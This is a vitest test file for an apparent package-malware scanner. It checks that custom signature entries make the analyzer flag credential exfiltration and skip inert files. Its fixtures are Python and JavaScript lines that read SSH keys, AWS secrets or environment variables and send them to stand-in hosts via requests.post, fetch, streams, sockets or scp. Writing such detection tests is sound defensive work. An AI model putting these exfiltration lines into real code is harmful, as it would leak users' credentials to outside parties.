// More library tables that were TypeScript constants (issue 17, continued): an entry added
// through a --signatures directory takes effect, one test per entry kind.
import { describe, expect, it } from "vitest";
import { analyzeNpmPackage } from "../../src/analyzers/js/index.js";
import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
import { irrelevantFiles } from "../../src/analyzers/js/relevance.js";
import { evaluateFacts } from "../../src/rules/evaluate.js";
import { loadSignatures } from "../../src/rules/signatures.js";
import { makePackage } from "../analyzers/js/helpers.js";
import { dedent } from "../analyzers/python/helpers.js";
import { base, extraDir, jsFindings, pkg, pyFindings, sinksYaml, sourcesYaml } from "./models-helpers.js";

const sources = (more: string) => loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", more) })]);

/** Findings of a Python package made of `files` (paths under the package root). */
async function pyPackageFindings(files: Record<string, string>, signatures: typeof base): Promise<string[]> {
  const all = new Map([["setup.py", Buffer.from('from setuptools import setup\nsetup(name="pkg", version="1.0.0", packages=["pkg"])\n')]]);
  for (const [path, text] of Object.entries(files)) all.set(path, Buffer.from(dedent(text)));
  const facts = await analyzePythonPackage({ input: "test", files: all, bytes: 0, errors: [] }, signatures);
  return evaluateFacts(facts, { ...pkg, ecosystem: "pypi" }, signatures).map((f) => `${f.ruleId} ${f.severity} ${f.location.file}:${f.location.line}`);
}

describe("sources.yaml fileApis.python", () => {
  it("copies: the copy made by a new copying call holds the credential file", async () => {
    const py = 'import os, requests, zorblat\nzorblat.dup(os.path.expanduser("~/.ssh/id_rsa"), "/tmp/zk")\nrequests.post("https://c.example.invalid/", data=open("/tmp/zk").read())\n';
    expect(await pyFindings(py, base)).toEqual([]);
    expect(await pyFindings(py, sources("fileApis: { python: { copies: [zorblat.dup] } }\n"))).toEqual(["credential-exfiltration critical 3"]);
  });

  it("opens: a package file opened by a new opener and run is analysed as code", async () => {
    const files = {
      "pkg/__init__.py": 'import os, zorblat\nexec(zorblat.zopen(os.path.join(os.path.dirname(__file__), "stage.py")).read())\n',
      "pkg/stage.py": 'import os, requests\nrequests.post("https://c.example.invalid/", data=os.environ["AWS_SECRET_ACCESS_KEY"])\n',
    };
    // Unknown, the call's result is code of unknown origin; opened, it is the file, run as the package's code.
    expect(await pyPackageFindings(files, base)).toEqual(["credential-exfiltration critical pkg/stage.py:2", "obfuscated-code-execution medium pkg/__init__.py:2"]);
    expect(await pyPackageFindings(files, sources("fileApis: { python: { opens: [zorblat.zopen] } }\n"))).toEqual(["credential-exfiltration critical pkg/__init__.py:2", "credential-exfiltration critical pkg/stage.py:2"]);
  });
});

describe("sources.yaml fileApis.js reads", () => {
  it("a new reading member is a read however its result is used: a handle (Bun.file(p).text()), a stream, a promise", async () => {
    const sigs = sources("fileApis: { js: { globals: [Zrt], reads: [zopen] } }\n");
    const uses = [
      'fetch("https://c.example.invalid/", { method: "POST", body: Zrt.zopen(key).text() });',
      'Zrt.zopen(key).pipe(require("https").request("https://c.example.invalid/"));',
      'Zrt.zopen(key).then((d) => fetch("https://c.example.invalid/", { method: "POST", body: d }));',
    ];
    for (const use of uses) {
      const js = `const key = require("os").homedir() + "/.ssh/id_rsa";\n${use}\n`;
      expect(await jsFindings(js, base)).toEqual([]);
      expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 2"]);
    }
  });
});

describe("sinks.yaml js.sendMethods", () => {
  const module = 'js: { modules: { zorblat-net: { connect: socket } }, globals: {}';
  const js = 'const c = require("zorblat-net").connect("c.example.invalid", 7000);\nc.transmit(JSON.stringify(process.env));\n';
  // The finding is at the call that opened the connection (line 1).
  it("a method of what a new sink returns sends when listed for its module (or module.member)", async () => {
    expect(await jsFindings(js, loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module} }` }) })]))).toEqual([]);
    for (const key of ["zorblat-net", "zorblat-net.connect"]) {
      const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module}, sendMethods: { ${key}: [transmit] } }` }) })]);
      expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 1"]);
    }
  });

  it('"*" gives the methods of every other sink API', async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module}, sendMethods: { "*": [transmit] } }` }) })]);
    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 1"]);
  });
});

describe("commands.yaml sshLoginFlags (Python reading)", () => {
  const sigs = loadSignatures([extraDir({ "commands.yaml": "sshLoginFlags: [-Z]\n" })]);
  it("the word after a new login flag of an sshLogin program logs in: it is not sent (command line and argv list)", async () => {
    const line = 'import os\nos.system("scp -Z ~/.ssh/id_rsa notes.txt user@h.example.invalid:/tmp/")\n';
    const argv = 'import os, subprocess\nkey = os.path.expanduser("~/.ssh/id_rsa")\nsubprocess.run(["scp", "-Z", key, "notes.txt", "user@h.example.invalid:/tmp/"])\n';
    expect(await pyFindings(line, base)).toEqual(["credential-exfiltration critical 2"]);
    expect(await pyFindings(line, sigs)).toEqual([]);
    expect(await pyFindings(argv, base)).toEqual(["credential-exfiltration critical 3"]);
    expect(await pyFindings(argv, sigs)).toEqual([]);
  });
});

describe("sinks.yaml js.inert (the relevance pre-scan)", () => {
  const inert = (yaml: string) => loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `js: { modules: {}, globals: {}, inert: ${yaml} }` }) })]);
  const skipped = (text: string, signatures: typeof base) => irrelevantFiles(new Map([["index.js", Buffer.from(text)]]), ["index.js"], signatures).has("index.js");

  it("builtins: a file importing only a new inert built-in is not analysed on its own", () => {
    const js = 'const os = require("os");\nmodule.exports = () => os.EOL;\n';
    expect(skipped(js, base)).toBe(false);
    expect(skipped(js, inert("{ builtins: [os] }"))).toBe(true);
  });

  it("processMembers: a file using only a new inert member of process is not analysed on its own", () => {
    const js = "module.exports = () => process.resourceUsage();\n";
    expect(skipped(js, base)).toBe(false);
    expect(skipped(js, inert("{ processMembers: [resourceUsage] }"))).toBe(true);
    expect(skipped("module.exports = () => process.resourceUsageX();\n", inert("{ processMembers: [resourceUsage] }"))).toBe(false);
  });
});

describe("sources.yaml secretStores.js", () => {
  const store = (more: string) => sources(`secretStores: { js: { zorblat-vault: { store: Zorblat Vault, reads: "^fetchSecret$"${more} } } }\n`);
  const details = async (code: string, signatures: typeof base) => (await analyzeNpmPackage(makePackage({ "index.js": code }), signatures)).sources.map((s) => `${s.kind} ${s.detail}`);
  const v3 = 'const m = require("zorblat-vault");\nconst s = new m.VaultClient().fetchSecret({ Name: "db", WithDecryption: true });\n';

  it("a new store's read operation returns a credential; other operations do not", async () => {
    expect(await details(v3, base)).toEqual([]);
    expect(await details(v3, store(""))).toEqual(["cloud-credentials zorblat-vault fetchSecret"]);
    expect(await details(v3.replace("fetchSecret", "listSecrets"), store(""))).toEqual([]);
  });

  it("decrypt: only a read asking for decryption; awsV2Class: the same store through aws-sdk v2", async () => {
    expect(await details(v3.replace("WithDecryption: true", "WithDecryption: false"), store(", decrypt: true"))).toEqual([]);
    expect(await details(v3, store(", decrypt: true"))).toEqual(["cloud-credentials zorblat-vault fetchSecret"]);
    const v2 = 'const AWS = require("aws-sdk");\nconst s = new AWS.Zorblat().fetchSecret({ Name: "db" });\n';
    expect(await details(v2, store(""))).toEqual([]);
    expect(await details(v2, store(", awsV2Class: Zorblat"))).toEqual(["cloud-credentials aws-sdk fetchSecret"]);
  });
});
